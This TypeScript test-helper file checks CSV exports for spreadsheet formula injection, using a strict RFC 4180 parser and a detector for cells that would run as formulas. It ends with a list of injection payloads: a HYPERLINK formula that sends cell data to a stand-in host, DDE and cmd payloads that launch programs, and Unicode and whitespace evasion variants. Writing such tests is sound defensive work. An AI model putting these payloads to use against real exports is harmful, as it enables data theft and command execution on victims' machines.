// Reading an exported CSV as its attackers hope a spreadsheet will: a strict RFC 4180
// reader (so a quoting slip fails the test instead of shifting cells), the cells a field
// would split into under a locale's separator, a paste or a quote-blind importer, and
// which of those would run as a formula. With the payloads a merchant id could carry.

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let i = 0
  let quoted = false
  let fieldStart = true
  while (i < text.length) {
    const c = text[i]
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          field += '"'
          i += 2
          continue
        }
        quoted = false
        i++
        if (text[i] !== ',' && text[i] !== '\r') throw new Error(`junk after closing quote at ${i}`)
        continue
      }
      field += c
      i++
      continue
    }
    if (c === '"') {
      if (!fieldStart) throw new Error(`quote inside an unquoted field at ${i}`)
      quoted = true
      fieldStart = false
      i++
    } else if (c === ',') {
      record.push(field)
      field = ''
      fieldStart = true
      i++
    } else if (c === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`)
      record.push(field)
      records.push(record)
      record = []
      field = ''
      fieldStart = true
      i += 2
    } else if (c === '\n') {
      throw new Error(`bare LF at ${i}`)
    } else {
      field += c
      fieldStart = false
      i++
    }
  }
  if (quoted) throw new Error('unterminated quote')
  if (!fieldStart || record.length > 0) throw new Error('last record not terminated by CRLF')
  return records
}

/**
 * How an attacker hopes a spreadsheet sees a field: cut into cells at ; , tab and line
 * breaks (a locale's separator, a paste, an importer that ignores quotes), each cell with
 * its whitespace trimmed and Unicode folded (NFKC). A cell that then starts with = + - @
 * would run, unless it is a plain number. Answers the cells that would run.
 */
export function cellsThatWouldRun(field: string): string[] {
  return field
    .split(/[;,\t\r\n]/)
    .map((c) => c.normalize('NFKC').trim())
    .filter((c) => /^[=+\-@]/.test(c) && !/^-?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(c))
}

/** Formula payloads an order field could carry (a merchant recognition id, a reference). */
export const CSV_ATTACKS = [
  '=HYPERLINK("http://evil.test/?d="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0\u3000=1+1',
  '\uff1d1+1',
  '\uff0b1+cmd',
  '\uff0d1+cmd',
  '\uff20SUM(A1)',
  '\ufe66 1',
  'ok;=1+1',
  'ok,=1+1',
  'ok\t=1+1',
  'ok; \t=1+1',
  'ok, @SUM(A1)',
  'ok;\uff1dcmd',
  'a\r\n=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
  '=1;=2,=3\t=4'
]
